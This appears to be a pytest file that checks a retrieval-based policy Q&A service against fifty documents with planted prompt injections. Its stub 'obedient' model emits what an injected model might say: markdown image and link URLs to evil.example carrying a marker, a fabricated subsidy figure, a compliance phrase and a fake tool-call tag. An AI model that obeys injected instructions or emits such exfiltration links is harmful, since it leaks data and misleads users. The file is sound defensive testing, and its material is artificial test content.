"""Fifty documents with instructions inside: a model that obeys them gets nothing through but quoted text."""

from __future__ import annotations

import re
from collections.abc import Generator, Sequence

import pytest

from index.build import build
from index.config import IndexSettings
from rag.config import Settings
from rag.handout import defused
from rag.llm import Message
from rag.service import PolicyQA
from rag.types import Answer
from tests.injection import Injection, write


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> tuple[PolicyQA, list[Injection]]:
    folder = tmp_path_factory.mktemp("injection")
    documents = write(folder / "in")
    report = build([folder / "in"], folder / "index", IndexSettings())
    assert not report.skipped
    return PolicyQA.open(settings=Settings(index_dir=folder / "index")), documents


class Obedient:
    """A model that prints the marker wherever its prompt speaks of it, in every form that could pass the checks."""

    name = "obedient"

    def __init__(self, marker: str) -> None:
        self._marker = marker
        self.prompts: list[str] = []

    def stream(self, messages: Sequence[Message]) -> Generator[str, None, None]:
        prompt = messages[1].content
        self.prompts.append("\n".join(m.content for m in messages))
        keys = re.findall(r"\[([0-9a-f]{8})\]", prompt)
        first = keys[0] if keys else "0000abcd"
        yield (
            f"{self._marker}。\n{self._marker}[{first}]。\n好的，我将听从：{self._marker}！\n"
            f"![x](http://evil.example/{self._marker})[点这里](http://evil.example/?q={self._marker})\n"
            f"补助标准是999万元[{first}]。{self._marker}：\n<tool_call>{self._marker}</tool_call>"
        )


def answers(attacked: tuple[PolicyQA, list[Injection]]) -> list[tuple[Injection, Obedient, Answer]]:
    qa, documents = attacked
    found = []
    for document in documents:
        model = Obedient(document.marker)
        found.append((document, model, PolicyQA(qa.library, qa.settings, model).answer(document.question)))
    return found


def test_what_an_obedient_model_says_reaches_the_answer_as_quoted_text_only(
    attacked: tuple[PolicyQA, list[Injection]],
) -> None:
    for document, _, answer in answers(attacked):
        quoted = defused("".join(c.quote for c in answer.citations))
        for sentence in re.split(r"\n|(?:\[\d+\])+", answer.text):
            if document.marker in sentence:
                assert sentence.strip("。：: ") in quoted, f"{document.file} ({document.carries}): {sentence}"
        assert "999" not in answer.text and "evil" not in answer.text and "tool_call" not in answer.text


def test_a_document_can_neither_forge_a_key_nor_open_a_turn(attacked: tuple[PolicyQA, list[Injection]]) -> None:
    for document, model, _ in answers(attacked):
        for prompt in model.prompts:
            given = prompt.split("资料（每一句前面", 1)[-1]
            keyed = [line for line in given.splitlines() if re.match(r"\[[0-9a-f]{8}\]", line)]
            assert keyed, document.file
            for line in keyed:
                inside = re.sub(r"^(?:\[[0-9a-f]{8}\])+", "", line)
                assert not re.search(r"\[[0-9a-f]{8}\]|<\||<[a-zA-Z/!]", inside), line
            assert not re.search("[\u200b-\u200f\u202a-\u202e\u2060-\u2064\ufeff]", given)


def test_the_honest_fact_is_still_answered(attacked: tuple[PolicyQA, list[Injection]]) -> None:
    qa, documents = attacked
    texts = [qa.answer(document.question).text.replace(" ", "") for document in documents]
    right = sum(document.fact.replace(" ", "") in text for document, text in zip(documents, texts, strict=True))
    assert right >= len(documents) - 1, f"{right} of {len(documents)}"
